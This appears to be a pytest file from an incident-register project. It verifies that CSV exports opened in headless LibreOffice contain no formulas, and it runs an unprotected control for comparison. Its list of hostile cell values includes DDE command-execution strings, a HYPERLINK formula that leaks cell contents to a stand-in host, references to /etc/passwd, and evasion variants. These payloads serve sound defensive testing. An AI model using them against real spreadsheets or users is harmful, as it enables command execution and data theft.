"""A CSV of the register opened by LibreOffice: text stays text, and nothing in it is a formula."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from kangma.incidents.exchange import tables
from kangma.incidents.exchange.report import Entry
from kangma.incidents.form import from_json
from kangma.incidents.levels import seen_by

#: What people have put into cells so that a spreadsheet does something.
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")', '=DDE("soffice";"/etc/passwd";"A1")',
    '=WEBSERVICE("https://evil.example/")', "='file:///etc/passwd'#$passwd.A1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '",=1+1,"', "\"\n=1+1", "x\n=1+1", "'=1+1", "''=1+1", "of:=1+1", ";=1+1", "1;=1+1", "=1+1;=2+2", "\u00a0=1+1",
    "=\u200b1+1", "{=1+1}", "sep==",
)  # fmt: skip


def converted(folder: Path, name: str, content: bytes) -> str:
    """The sheet as LibreOffice read it, in its flat XML; in a profile of its own, without a window."""
    (folder / name).write_bytes(content)
    command = [
        "soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore", "--convert-to", "fods",
        "--outdir", str(folder / "out"), str(folder / name),
    ]  # fmt: skip
    told = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    made = folder / "out" / f"{Path(name).stem}.fods"
    assert made.exists(), told.stderr
    return made.read_text("utf-8")


@pytest.mark.prove
def test_libreoffice_finds_no_formula_in_an_export(tmp_path: Path) -> None:
    """And finds many in the same texts written without our care: the control."""
    if shutil.which("soffice") is None:
        pytest.skip("NO LIBREOFFICE HERE, so no CSV was opened by it: apt-get install libreoffice-calc")
    entries = []
    for n, text in enumerate(HOSTILE):
        words, line = {"zh": text, "en": text}, text.split("\n")[-1]
        record = from_json(
            {
                "id": f"r{n}", "victim": {"name": line, "names": {"en": line}, "country": "CN"},
                "summary": {"zh": line, "en": line}, "description": words, "date": "2022", "actors": [{"name": line}],
                "sources": [{"title": line, "url": "https://news.example/1"}],
                "confidentiality": {"degree": "none", "note": words},
            }
        )  # fmt: skip
        entries.append(Entry(seen_by(record, member=True), 0, 0))
    sheet = converted(tmp_path, "export.csv", tables.write_csv(entries))
    assert sheet.count("<table:table-row") >= len(HOSTILE)  # it was read, and as rows
    assert re.findall(r'table:formula="[^"]*"', sheet) == []
    assert "evil.example" in sheet  # as text
    # Cells that no record can begin with, since ends are trimmed, are made safe all the same.
    cells = [lead + text for lead in ("\t", "\r", "\n", "\0", "\r\n\t") for text in HOSTILE]
    made = "".join(tables._line([tables.safe(cell)] * 2) for cell in cells).replace("\0", "")
    assert re.findall(r'table:formula="[^"]*"', converted(tmp_path, "cells.csv", made.encode())) == []
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows([[text, text] for text in HOSTILE])
    control = converted(tmp_path, "control.csv", plain.getvalue().encode())
    found = re.findall(r'table:formula="[^"]*"', control)
    print(f"{len(HOSTILE)} texts: no formula in the export, {len(found)} in the control")
    assert len(found) >= 5
